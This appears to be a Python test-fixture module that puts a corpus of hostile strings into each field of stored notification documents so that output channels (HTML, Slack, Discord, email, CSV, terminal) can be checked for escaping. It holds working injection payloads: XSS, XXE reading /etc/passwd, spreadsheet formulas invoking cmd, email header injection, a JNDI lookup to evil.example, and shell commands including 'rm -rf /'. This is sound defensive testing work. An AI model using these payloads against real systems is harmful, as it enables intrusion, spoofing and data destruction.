"""What strangers write to be obeyed: a corpus, each of it put into every field of a document that a stranger fills.

`placed` makes the document. What every channel shows of it is judged in `test_hostile.py` with the channel's real readers, which
stand in `tests/sinks/readers_*.py` and register themselves here.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any, Final

from tests.render.samples import DOCUMENTS, OPERATION

RLO, PDF, LRI, RLI, FSI, PDI = "\u202e", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069"

#: Name -> what is written.
PAYLOADS: Final[Mapping[str, str]] = {
    "script": "<script>alert(1)</script>",
    "svg onload": "<svg onload=alert(1)>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "remote image": '<img src="https://evil.example/pixel.gif">',
    "attribute break": '"><b onmouseover="alert(1)">x</b>',
    "single attribute break": "' onmouseover='alert(1)' x='",
    "closes the paragraph": "</p></div></body></html><h1>Owned</h1>",
    "closes the title": "</title><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "style": "<style>*{display:none}</style>",
    "form": "<form action=https://evil.example><button>Acknowledge</button></form>",
    "link in HTML": '<a href="https://evil.example">Read</a>',
    "script link in HTML": '<a href="javascript:alert(1)">Read</a>',
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;",
    "comment": "<!-- --><!--[if mso]><b>x</b><![endif]-->",
    "end of CDATA": "]]><x xmlns='urn:evil'/>",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "Slack channel": "<!channel> <!here> <!everyone>",
    "Slack user": "<@U012AB3CD> <#C012AB3CD>",
    "Slack group": "<!subteam^S012AB3CD>",
    "Slack link": "<https://evil.example|Read the article>",
    "Slack date": "<!date^1392734382^{date}^https://evil.example|x>",
    "everyone": "@everyone @here @channel @all",
    "Discord user": "<@1234567890> <@&987654321> <#1122334455>",
    "Discord emoji": "<a:blob:1234567890> :smile: <t:1618953630:R>",
    "Discord command": "</quit:1234567890>",
    "Telegram mention": "@durov /start@some_bot #hashtag $USD",
    "Telegram user link": '<a href="tg://user?id=123456789">you</a>',
    "Teams mention": "<at>Everyone</at>",
    "Markdown link": "[Read the article](https://evil.example)",
    "Markdown script link": "[x](javascript:alert(1))",
    "Markdown image": "![x](https://evil.example/pixel.gif)",
    "Markdown reference": "[x][1]\n\n[1]: https://evil.example",
    "Markdown automatic link": "<https://evil.example>",
    "bare link": "https://evil.example/login www.evil.example evil.example",
    "Markdown heading": "# Owned\n## Owned\n-# small",
    "Markdown code": "```\ncode\n``` `inline`",
    "Markdown emphasis": "**bold** *it* __under__ _it_ ~~gone~~ ||hidden||",
    "Markdown quote": "> quoted\n>>> all of it",
    "Markdown list": "- one\n* two\n1. three",
    "Markdown rule": "\n---\n***\n",
    "Markdown table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "backslashes": "\\<b\\> \\[x\\](https://evil.example) \\\\*bold*",
    "formula =": "=cmd|' /C calc'!A0",
    "formula +": "+1+1",
    "formula -": "-1+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "wide formula": "＝1+1",
    "cell break": '","=1+1","',
    "escape clear": "\x1b[2J\x1b[H owned",
    "escape title": "\x1b]0;owned\x07",
    "escape link": "\x1b]8;;https://evil.example\x1b\\Read\x1b]8;;\x1b\\",
    "C1 escape": "\x9b31mred \x9d0;owned\x9c",
    "bell and backspace": "\x07\x08\x08\x08\x7f",
    "header injection": "x\r\nBcc: evil@evil.example\r\nX-Evil: 1",
    "header injection, bare": "x\nBcc: evil@evil.example",
    "body injection": "x\r\n\r\n<h1>Owned</h1>",
    "encoded line break": "%0d%0aBcc: evil@evil.example",
    "encoded word": "=?utf-8?q?=0d=0aBcc:_evil@evil.example?=",
    "MIME boundary": "\n--===============0==\nContent-Type: text/html\n\n<h1>Owned</h1>",
    "end of data": "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n",
    "line separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "second syslog frame": "x\n<0>1 - evil evil - - - owned",
    "structured data": 'x"] [evil@1 a="b"] \\]"',
    "JSON break": '"},{"op":"evil"}]\\u0022',
    "override": f"{RLO}gnp.exe{PDF} {RLO}never ended",
    "embedding": "\u202a\u202b\u202d never ended",
    "isolates that never end": f"{LRI}{RLI}{FSI} never ended",
    "isolates ended too often": f"{PDI}{PDI}{PDI}{PDF}",
    "marks of direction": "\u200e\u200f\u061c mark",
    "byte order mark": "\ufeffx\ufeff",
    "invisible": "a\u200b\u2060\u00ad\u2061\u206ab",
    "tags": "x\U000e0001\U000e0041\U000e007f",
    "annotation": "\ufff9a\ufffab\ufffb",
    "lone surrogates": "a\ud800b\udfffc",
    "no characters": "a\uffff\ufffe\U0001ffffb",
    "NUL": "a\x00b",
    "marks": "a" + "\u0301" * 5000,
    "marks without a class": "a" + "\u20dd" * 5000,
    "one letter, eighteen glyphs": "\ufdfa" * 1000,
    "template": "{{7*7}} {% for x in [] %} {# x #} ${7*7} #{7*7}",
    "JNDI": "${jndi:ldap://evil.example/a}",
    "percent": "%s %n %(x)s {0} {x.__class__}",
    "shell": "$(touch /tmp/owned) `touch /tmp/owned` ; rm -rf / | cat && x",
    "path": "../../../../etc/passwd\x00.png",
    "SQL": "'; DROP TABLE alert; --",
    "script address": "javascript:alert(1)//https://x.example",
    "data address": "data:text/html,<script>alert(1)</script>",
    "address with a user": "https://bank.example@evil.example/\u202e",
    "address break": 'https://e.example/"onclick="alert(1)',
    "address with brackets": "https://e.example/)](https://evil.example) <b>",
    "address with a line": "https://e.example/\r\nX-Evil: 1",
    "long": "x" * 20_000,
    "long words": "صفقة " * 4_000,
    "only blanks": " \u3000\u2003\t\n ",
    "nothing": "",
}


#: Too large for every field of every channel: the title's alone.
HUGE: Final = "<b>x" * 250_000


def _set(*path: str | int) -> Callable[[dict[str, Any], str], None]:
    def put(document: dict[str, Any], text: str) -> None:
        at: Any = document
        for step in path[:-1]:
            at = at[step]
        at[path[-1]] = text

    return put


def _quote(document: dict[str, Any], text: str) -> None:
    _evidence(document, f"before {text} ", "arms deal", " after")


def _hit(document: dict[str, Any], text: str) -> None:
    _evidence(document, "before ", f"{text} deal", " after")


def _evidence(document: dict[str, Any], before: str, hit: str, after: str) -> None:
    passage = document["data"]["evidence"][1]
    start, at = passage["start"], passage["start"] + len(before)
    passage["quote"] = before + hit + after
    passage["end"] = start + len(passage["quote"])
    passage["hits"] = [{"group": "deal", "term": "deal", "start": at, "end": at + len(hit), "text": hit}]


def _entity(key: str) -> Callable[[dict[str, Any], str], None]:
    def put(document: dict[str, Any], text: str) -> None:
        document["data"]["entities"] = [{"id": "Q1", "name": "Somebody", "list": "people", key: text}]

    return put


def _label(document: dict[str, Any], text: str) -> None:
    for labelled in ("alert", "article", "watchlist"):
        document["data"][labelled]["labels"] = {"topic": text, text[:60]: "x"}


#: Field -> (document, what puts a text into it).
FIELDS: Final[Mapping[str, tuple[bytes, Callable[[dict[str, Any], str], None]]]] = {
    "title": (DOCUMENTS["update"], _set("data", "article", "title")),
    "quote": (DOCUMENTS["update"], _quote),
    "hit": (DOCUMENTS["update"], _hit),
    "clause": (DOCUMENTS["update"], _set("data", "evidence", 0, "clause")),
    "entity": (DOCUMENTS["update"], _entity("name")),
    "list": (DOCUMENTS["update"], _entity("list")),
    "source": (DOCUMENTS["update"], _set("data", "article", "source")),
    "url": (DOCUMENTS["update"], _set("data", "article", "url")),
    "language": (DOCUMENTS["update"], _set("data", "article", "language")),
    "watchlist": (DOCUMENTS["update"], _set("data", "watchlist", "title")),
    "label": (DOCUMENTS["update"], _label),
    "reason": (DOCUMENTS["update"], _set("data", "reason")),
    "new outlet": (DOCUMENTS["update"], _set("data", "change", "new", "outlets", 0)),
    "new name": (DOCUMENTS["update"], _set("data", "entities", 0, "name")),
    "new title": (DOCUMENTS["correction"], _set("data", "correction", "title")),
    "who": (DOCUMENTS["closed"], _set("data", "change", "by")),
    "comment": (DOCUMENTS["closed"], _set("data", "change", "comment")),
    "operation": (OPERATION, _set("data", "operation", "message")),
    "operation key": (OPERATION, _set("data", "operation", "key")),
    "digest title": (DOCUMENTS["digest"], _set("data", "digest", "title")),
    "digest text": (DOCUMENTS["digest"], _set("data", "digest", "text")),
    "member title": (DOCUMENTS["digest"], _set("data", "digest", "members", 0, "title")),
    "member headline": (DOCUMENTS["digest"], _set("data", "digest", "members", 0, "headline")),
    "member url": (DOCUMENTS["digest"], _set("data", "digest", "members", 0, "url")),
    "member outlet": (DOCUMENTS["digest"], _set("data", "digest", "members", 0, "outlet")),
    "member why": (DOCUMENTS["digest"], _set("data", "digest", "members", 0, "why")),
}


def placed(field: str, text: str) -> bytes:
    """The stored document with ``text`` in ``field``. Lone surrogates stay what they are, as escapes."""
    document, put = FIELDS[field]
    whole = json.loads(document)
    put(whole, text)
    return json.dumps(whole).encode()


@dataclass(frozen=True)
class Seen:
    """What a channel's real reader finds in what the channel is sent. ``text`` is all that a person sees; ``links`` is where
    their thumb may lead them; ``shape`` names each element, attribute, header, block and field; ``lines`` counts what is set
    apart as a line of its own; ``obeyed`` names whatever the reader would have obeyed of the text (a mention, a link it made
    itself, markup, a formula)."""

    text: str
    links: tuple[str, ...] = ()
    shape: frozenset[str] = frozenset()
    lines: int = 1
    obeyed: tuple[str, ...] = ()


#: Channel -> what makes its output of a stored document and reads it again.
CHANNELS: Final[dict[str, Callable[[bytes], Seen]]] = {}


def channel(name: str) -> Callable[[Callable[[bytes], Seen]], Callable[[bytes], Seen]]:
    """Registers how a channel's output is made and taken apart. In `tests/sinks/readers_<room>.py`, which are found by name."""

    def register(reader: Callable[[bytes], Seen]) -> Callable[[bytes], Seen]:
        assert name not in CHANNELS, name
        CHANNELS[name] = reader
        return reader

    return register
